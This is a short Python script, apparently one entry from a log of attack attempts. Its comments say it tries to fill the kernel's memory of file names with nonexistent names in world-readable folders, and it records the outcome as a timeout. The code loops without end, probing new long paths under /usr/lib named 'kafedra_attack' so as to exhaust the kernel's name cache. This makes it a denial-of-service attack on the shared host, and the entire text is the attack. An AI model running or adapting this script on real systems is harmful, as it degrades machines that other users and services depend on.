# tries: to fill the kernel's memory of names with names that don't exist, in folders that everybody reads
# outcome: timeout
import os


def count(n):
    number = 0
    while True:
        number += 1
        os.access(f"/usr/lib/kafedra_attack_{number}_{'x' * 200}", os.F_OK)
